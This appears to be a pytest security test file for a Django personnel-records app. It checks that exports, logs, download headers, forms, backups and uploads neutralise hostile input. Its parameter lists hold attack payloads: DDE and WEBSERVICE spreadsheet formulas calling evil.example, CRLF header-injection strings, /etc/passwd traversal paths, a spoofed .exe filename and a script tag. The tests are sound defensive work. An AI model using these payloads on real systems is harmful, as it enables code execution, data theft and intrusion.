"""What somebody wrote stays what it is: no formula in a workbook, no line in the log, no header, no path, no field more."""

from __future__ import annotations

import io
import logging
import re

import pytest
from django import forms
from django.apps import apps
from django.urls import reverse
from django.utils.module_loading import import_string

from canbo.core.errors import DomainError
from canbo.personnel.models import FamilyMember, Identity, Person, Qualification

FORMULAS = [
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"bấm\")", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "=1+1",
    "=WEBSERVICE(\"http://evil.example\")",
]  # fmt: skip


def cells(content: bytes):
    """Every cell of a workbook: (its formula or None, its text)."""
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                text = archive.read(name).decode()
                assert "<f>" not in text
                assert "<f " not in text
                assert "<hyperlink" not in text
        shared = archive.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in archive.namelist() else ""
        assert not [name for name in archive.namelist() if "externalLink" in name]
        return shared


@pytest.mark.django_db
@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_as_a_name_leaves_as_text(lan, desk, formula):
    person = desk.open("Hoàng Văn An", born="1975", home_place=formula, birth_place=formula)
    desk.add(person, Qualification, level="university", major=formula, institution=formula)
    answer = lan.client.post(reverse("people-export"), {"ly_do": "Họp"})
    content = b"".join(answer.streaming_content) if answer.streaming else answer.content
    assert content[:2] == b"PK"
    assert "Hoàng Văn An" in cells(content)


def test_no_other_writer_of_workbooks_makes_formulas():
    from pathlib import Path

    import canbo

    for path in Path(canbo.__file__).parent.rglob("*.py"):
        text = path.read_text("utf-8")
        if "xlsxwriter.Workbook(" in text and "tests" not in path.parts:
            assert '"strings_to_formulas": False' in text, path
            assert '"strings_to_urls": False' in text, path
        if "tests" not in path.parts:
            # These write sums over cells of their own tables, made of places and never of words.
            assert text.count("write_formula(") == (1 if path.name in {"excel.py", "sheet_book.py"} else 0), path
            assert "csv.writer(" not in text, f"{path}: a CSV needs its own test of formulas"


@pytest.mark.django_db
def test_the_workbook_of_errors_holds_text_only():
    from django.utils import timezone

    from canbo.core.access import full_access
    from canbo.imports.models import ImportBatch, ImportRow
    from canbo.imports.services.error_workbook import error_workbook

    batch = ImportBatch.objects.create(
        kind="roster", file_name="a.xlsx", sha256="", owner_name="x", uploaded_at=timezone.now(), state="previewed",
        report={"sheet_head": {"rows": [["=1+1", "@x"]], "header": [1, 1], "merges": [], "groups": [], "width": 2}},
    )  # fmt: skip
    ImportRow.objects.create(
        batch=batch, row=2, outcome="refused",
        payload='{"cells": ["=cmd|x!A0", "+1"], "shown": {}, "issues": [{"column": "A", "heading": "", "code": "x", '
        '"severity": "refused", "reason": "=1+1", "suggestion": "-1", "cell": "A2"}], "candidates": []}',
    )  # fmt: skip
    told = cells(error_workbook(full_access(None, "kiểm thử"), batch))
    assert "=cmd|x!A0" in told


@pytest.mark.django_db
@pytest.mark.parametrize("nasty", ["a\r\nINFO giả mạo dòng nhật ký", "a\nb", "\x1b[31mđỏ", "a\u2028b", "%0d%0aX"])
def test_no_line_of_the_log_is_made_up(lan, nasty, capfd, caplog):
    from django.test import Client

    from canbo.config import logs

    logs.set_up()
    caplog.set_level(logging.DEBUG)
    Client().get(
        "/khong-co/" + nasty.encode("unicode_escape").decode(), headers={"user-agent": nasty, "referer": nasty}
    )
    Client().post(reverse("account_login"), {"login": nasty, "password": nasty})
    lan.client.get(reverse("search"), {"q": nasty})
    logging.getLogger("django.request").warning("Not Found: %s", nasty)
    shown = capfd.readouterr()
    for line in (shown.out + shown.err).splitlines():
        assert not line.startswith("INFO giả mạo"), line
        assert "\x1b[31m" not in line


@pytest.mark.django_db
def test_the_name_of_a_download_is_ours(lan, desk):
    person = desk.open('Hoàng"; filename="a.exe\u202e', born="1975")
    export = reverse("people-export")
    for answer in (
        lan.client.post(export, {"ly_do": "Họp\r\nX: 1"}), lan.client.get(reverse("file-print-word", args=[person.pk, "tt06"])),
        lan.client.post(export + "?q=%0d%0aSet-Cookie:%20a=1", {"ly_do": "Họp"}),
    ):  # fmt: skip
        told = answer.headers.get("Content-Disposition", "")
        assert re.fullmatch(r'(attachment; filename="[A-Za-z0-9._-]+")?', told), told
        assert "a=1" not in str(answer.headers)


@pytest.mark.django_db
def test_fields_that_no_form_offers_change_nothing(lan, desk):
    """Mass assignment: the record of a file takes what its form shows, whatever else is sent."""
    person, other = desk.open("Hoàng Văn An", born="1975"), desk.open("Lò Thị Mơ", unit=desk.tree.other)
    smuggled = {
        "person": other.pk, "person_id": other.pk, "source": 1, "source_id": 999, "id": 777, "pk": 777, "supersedes": 5,
        "recorded_at": "2000-01-01", "superseded_at": "2000-01-01", "attested_on": "2000-01-01", "verified": '{"a": 1}',
        "as_written": '{"a": 1}', "reason": "x", "withdrawn_reason": "x", "withdrawn_by_name": "x", "unit": desk.tree.other.pk,
        "citizen_index": "x", "managed_tier": "central", "sort_key": "x", "full_name_": "x",
    }  # fmt: skip
    answer = lan.client.post(
        reverse("record-add", args=[person.pk, "qualification"]),
        {"level": "university", "major": "Luật", "institution": "", **smuggled},
    )
    assert answer.status_code in {302, 422}
    added = Qualification.objects.filter(major="Luật").first()
    assert added is not None
    assert (added.person_id, added.superseded_at, added.supersedes_id) == (person.pk, None, None)
    assert (added.attested_on, added.verified, added.as_written) == (None, None, None)
    assert (added.reason, added.withdrawn_reason, added.withdrawn_by_name) == ("", "", "")
    assert added.recorded_at.year > 2000
    assert added.pk != 777
    person.refresh_from_db()
    assert (person.unit_id, person.managed_tier) == (desk.tree.home.pk, "")
    record = Identity.objects.get(person=person)
    lan.client.post(
        reverse("record-correct", args=[person.pk, "identity", record.pk]),
        {"full_name": "Hoàng Văn Ân", "born": "1975", "change_reason": "x", "reason": "theo khai sinh", **smuggled},
    )
    assert Identity.objects.filter(person=other, full_name="Hoàng Văn Ân").count() == 0
    assert Person.objects.get(pk=other.pk).full_name == "Lò Thị Mơ"


def all_forms():
    """Every form of the product that the pages make."""
    for config in apps.get_app_configs():
        if config.name.startswith("canbo."):
            for module in (f"{config.name}.forms",):
                try:
                    import_string(f"{module}.__name__")
                except ImportError:
                    continue
    pending = [forms.BaseForm]
    while pending:
        for each in pending.pop().__subclasses__():
            pending.append(each)
            if each.__module__.startswith("canbo."):
                yield each


#: Fields that no form may ever write straight into a model.
NEVER = {
    "id", "pk", "is_superuser", "is_staff", "recorded_at", "superseded_at", "supersedes", "withdrawn_at", "sort_key",
    "search_name", "managed_tier", "citizen_index", "granted_by_name", "granted_at", "mac", "owner", "owner_id",
}  # fmt: skip


@pytest.mark.django_db
def test_no_form_writes_a_model_by_every_field():
    seen = list(all_forms())
    assert len(seen) > 15
    for form in seen:
        if issubclass(form, forms.BaseModelForm) and getattr(form, "_meta", None) and form._meta.model:
            assert form._meta.fields not in (None, "__all__"), form
            assert not form._meta.exclude, form
            assert not set(form._meta.fields) & NEVER, form
        assert not set(getattr(form, "base_fields", {})) & NEVER, form


@pytest.mark.parametrize("name", ["../x", "/etc/passwd", "files/../../x", "files/a\0b", "khac/x", "", "..", "C:\\x"])
def test_a_backup_writes_nowhere_else(tmp_path, name):
    from canbo.cli.backup.folders import put_back

    root = tmp_path / "noi-moi"
    root.mkdir()
    with pytest.raises((DomainError, ValueError)):
        put_back(root, name, 0, [b"x"])
    assert not [path for path in tmp_path.rglob("*") if path.is_file()]


def test_a_backup_does_not_write_through_a_link(tmp_path):
    from canbo.cli.backup.folders import put_back

    root, outside = tmp_path / "noi-moi", tmp_path / "ngoai"
    (root / "files").mkdir(parents=True)
    outside.mkdir()
    (root / "files" / "x").symlink_to(outside / "x")
    with pytest.raises(FileExistsError):
        put_back(root, "files/x", 0, [b"x"])
    assert not list(outside.iterdir())


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["../../x.xlsx", "/etc/passwd", "..\\..\\x.csv", "a\0.xlsx", "x" * 400 + ".xlsx"])
def test_the_name_of_a_list_leads_nowhere(settings, tmp_path, name):
    from canbo.core.access import full_access
    from canbo.imports.services import batches, uploads

    settings.CANBO_DATA_DIR = tmp_path / "noi"
    try:
        batch = batches.upload(access=full_access(1, "x"), file_name=name, chunks=["Họ và tên,Ngày sinh\n".encode()])
    except DomainError:
        return
    assert re.fullmatch(r"[0-9a-f]{32}\.[a-z]+", batch.stored_as)
    assert {path.parent for path in tmp_path.rglob("*") if path.is_file()} <= {uploads.directory(), tmp_path / "noi"}
    for asked in ("../../etc/passwd", "/etc/passwd", ""):
        with pytest.raises(DomainError), uploads.opened(asked):
            pass


@pytest.mark.django_db
def test_the_names_of_relatives_are_no_markup(lan, desk):
    person = desk.open("Hoàng Văn An", born="1975")
    desk.add(person, FamilyMember, relation="<b>Vợ</b>", full_name="<script>alert(1)</script>")
    shown = lan.client.get(reverse("file", args=[person.pk]), {"muc": "gia-dinh"}).content.decode()
    assert "<script>alert(1)" not in shown
    assert "<b>Vợ</b>" not in shown
